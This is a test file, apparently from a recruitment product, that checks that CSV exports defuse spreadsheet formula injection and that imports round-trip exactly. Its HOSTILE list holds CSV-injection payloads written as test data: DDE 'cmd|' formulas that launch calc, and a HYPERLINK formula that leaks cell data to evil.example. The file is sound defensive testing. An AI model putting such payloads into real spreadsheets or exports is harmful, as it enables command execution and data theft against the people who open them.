"""No CSV the product writes runs a formula: every CSV endpoint of every service (found from its
OpenAPI document) and every CSV download of the web, given hostile text, has no cell that starts
with `=`, `+`, `-`, `@`, a tab or a carriage return (a plain number such as -3.5 is not a formula).
And framework-api's CSV import of its own export gives back exactly the text it exported."""

from __future__ import annotations

import csv
import io
import re

import pytest
from fastapi.testclient import TestClient
from framework_support import with_etag
from recruitment_support import admin_headers, ready_panel, score

from servicekit.csvio import DANGEROUS_LEADS

ORG = "SEHSCT"
OWNER = "BSO"  # owns the seeded framework, so it can make a draft of it
PLAIN_NUMBER = re.compile(r"-?[0-9,.]+\n?")
HOSTILE = [
    "=1+2+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
]
CSV_MEDIA_TYPES = ("text/csv", "application/csv")


def unsafe_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(DANGEROUS_LEADS) and not PLAIN_NUMBER.fullmatch(cell)
    ]


def csv_operations(app) -> set[tuple[str, str]]:
    """(method, path) of every operation whose responses offer CSV."""
    found = set()
    for path, item in app.openapi()["paths"].items():
        for method, operation in item.items():
            for response in operation.get("responses", {}).values():
                if any(media.startswith(CSV_MEDIA_TYPES) for media in response.get("content", {})):
                    found.add((method.upper(), path))
    return found


@pytest.fixture(scope="module")
def hostile_draft(recruitment_services, keys) -> tuple[str, dict]:
    """A draft of the seeded framework whose texts are all hostile; its id and the headers to read it."""
    with TestClient(recruitment_services["framework"]) as api:
        return _hostile_draft(api, keys)


def _hostile_draft(api, keys) -> tuple[str, dict]:
    headers = keys.headers("framework:read", "framework:write", org=OWNER)
    framework = api.get("/frameworks", headers=headers).json()["items"][0]
    draft = api.post(f"/frameworks/{framework['id']}/versions", json={"version": "9.9.9"}, headers=headers)
    assert draft.status_code == 201, draft.text
    draft = draft.json()
    items = api.get(f"/versions/{draft['id']}/items", params={"limit": len(HOSTILE)}, headers=headers).json()
    for n, item in enumerate(items["items"]):
        text = HOSTILE[n % len(HOSTILE)]
        changed = api.patch(
            f"/versions/{draft['id']}/items/{item['identifier']}",
            json={"statement": text, "description": HOSTILE[-1 - n % len(HOSTILE)], "source": text},
            headers=with_etag(api, draft["id"], headers),
        )
        assert changed.status_code == 200, changed.text
    return draft["id"], headers


def hostile_results(api, keys) -> str:
    """A scored stage whose decision reasons are hostile; the path of its results.csv."""
    panel = ready_panel(api, keys, org=ORG, lead="csv-lead", second="csv-second")
    stage = f"/vacancies/{panel.vacancy['id']}/stages/{panel.stage['id']}"
    for n, candidate in enumerate(panel.candidates):
        for assessor in (panel.lead, panel.second):
            score(api, panel, assessor, candidate, {"V1": 3, "V2": 2 + n % 2, "V3": 3, "V4": 4})
        decided = api.post(
            stage + "/decisions",
            json={"candidate_id": candidate["id"], "outcome": "progress", "reason": HOSTILE[n]},
            headers=admin_headers(keys, ORG),
        )
        assert decided.status_code == 201, decided.text
    return stage + "/results.csv"


def test_every_csv_the_product_writes_is_safe_in_a_spreadsheet(recruitment_services, hostile_draft, browser_as, keys):
    framework, recruitment = recruitment_services["framework"], recruitment_services["recruitment"]
    # Each CSV endpoint is checked below; a new one must be added here (and so checked).
    assert csv_operations(framework) == {("GET", "/versions/{version_id}/csv")}
    assert csv_operations(recruitment) == {("GET", "/vacancies/{vacancy_id}/stages/{stage_id}/results.csv")}

    with TestClient(framework) as framework_api:
        draft, reader = hostile_draft
        exported = framework_api.get(f"/versions/{draft}/csv", headers=reader)
        assert exported.status_code == 200, exported.text
        assert "HYPERLINK" in exported.text
        assert unsafe_cells(exported.text) == []

        web_reader = browser_as("csv-reader", org=OWNER, roles=("framework_editor",))
        download = web_reader.get(f"/versions/{draft}/download.csv")
        assert download.status_code == 200, download.text
        assert unsafe_cells(download.text) == [] and "HYPERLINK" in download.text

    api = recruitment_services["api"]
    results = hostile_results(api, keys)
    exported = api.get(results, headers=admin_headers(keys, ORG))
    assert exported.status_code == 200, exported.text
    assert "cmd|" in exported.text.replace("\\|", "|")
    assert unsafe_cells(exported.text) == []

    admin = browser_as("csv-admin", org=ORG, roles=("recruitment_admin",))
    download = admin.get("/recruitment" + results)
    assert download.status_code == 200, download.text
    assert unsafe_cells(download.text) == [] and "calc" in download.text


def test_framework_csv_import_of_its_own_export_gives_back_the_text_exactly(recruitment_services, hostile_draft):
    with TestClient(recruitment_services["framework"]) as api:
        draft, headers = hostile_draft
        before = api.get(f"/versions/{draft}/items", params={"limit": 500}, headers=headers).json()["items"]
        exported = api.get(f"/versions/{draft}/csv", headers=headers).text
        etag = api.get(f"/versions/{draft}", headers=headers).headers["etag"]
        imported = api.post(
            f"/versions/{draft}/csv",
            content=exported.encode(),
            headers={**headers, "Content-Type": "text/csv", "If-Match": etag},
        )
        assert imported.status_code == 200, imported.text
        after = api.get(f"/versions/{draft}/items", params={"limit": 500}, headers=headers).json()["items"]

    def texts(items):
        return {i["identifier"]: (i["statement"], i.get("description"), i.get("source")) for i in items}

    assert texts(after) == texts(before)
    assert {s for s, _, _ in texts(after).values()} >= set(HOSTILE)
